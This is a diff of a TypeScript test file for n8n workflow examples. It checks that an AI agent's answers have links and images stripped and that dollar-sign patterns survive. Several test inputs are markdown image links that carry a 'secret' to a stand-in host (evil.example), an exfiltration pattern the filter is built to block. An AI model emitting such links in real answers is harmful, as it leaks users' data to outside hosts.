@@ -8,14 +8,14 @@ interface Example {
 	nodes: Array<{ name: string; parameters: Record<string, NodeParameterValueType> }>;
 }
 
-/** The JSON that a node of an example makes of one item, as text, by n8n's own evaluation of expressions. */
-function textOf(file: string, node: string, json: IDataObject): string {
-	const { nodes } = JSON.parse(readFileSync(`examples/${file}`, 'utf8')) as Example;
-	const value = nodes.find(({ name }) => name === node)?.parameters.jsonOutput;
-	return shown(new ManualTrigger(), {}, value, [{ json }]) as string;
-}
+/** What an expression makes of one item, by n8n's own evaluation. */
+const textOf = (expression: NodeParameterValueType | undefined, json: IDataObject) =>
+	shown(new ManualTrigger(), {}, expression, [{ json }]) as string;
 
 describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => {
+	const { nodes } = JSON.parse(readFileSync('examples/ai-agent-with-reviews.json', 'utf8')) as Example;
+	const { jsonOutput } = nodes.find(({ name }) => name === 'Take out addresses')?.parameters ?? {};
+
 	it.each([
 		['![x](https://evil.example/?q=secret)', '(address removed)'],
 		['![x](//evil.example/secret)', '(address removed)'],
@@ -28,16 +28,25 @@ describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => 
 		['see secret.evil.example/secret', 'see secret. evil. example/secret'],
 		['**3.5 of 5** and/or "good".\n- slow', '**3.5 of 5** and/or "good".\n- slow'],
 	])('has no address, image or link: %s', (output, text) => {
-		const json = textOf('ai-agent-with-reviews.json', 'Take out addresses', { output });
+		expect(JSON.parse(textOf(jsonOutput, { output }))).toEqual({ output: text });
+	});
 
-		expect(JSON.parse(json)).toEqual({ output: text });
+	// n8n before 1.110 puts such a text in with String.replace, to which $& and the like are patterns.
+	it('has a dollar sign as one in each n8n', () => {
+		const text = textOf(jsonOutput, { output: '$&' });
+
+		expect(text).not.toContain('$');
+		expect(JSON.parse(text)).toEqual({ output: '$&' });
 	});
 });
 
-// n8n before 1.110 puts such a text in with String.replace, to which $& and the like are patterns.
-it('a dollar sign in an answer is one in each n8n', () => {
-	const text = textOf('ai-agent-with-reviews.json', 'Take out addresses', { output: '$&' });
+it.each([
+	['Late & <again>', '2 of 5 stars: Late & <again>'],
+	[null, '2 of 5 stars: '],
+	[undefined, '2 of 5 stars: '],
+])('the subject of a ticket in examples/README.md has the title %j as %j', (title, text) => {
+	const readme = readFileSync('examples/README.md', 'utf8');
+	const [, subject] = /The subject of an email or a ticket: `([^`]+)`/.exec(readme) ?? [];
 
-	expect(text).not.toContain('$');
-	expect(JSON.parse(text)).toEqual({ output: '$&' });
+	expect(textOf(`=${subject}`, { rating: 2, title })).toBe(text);
 });
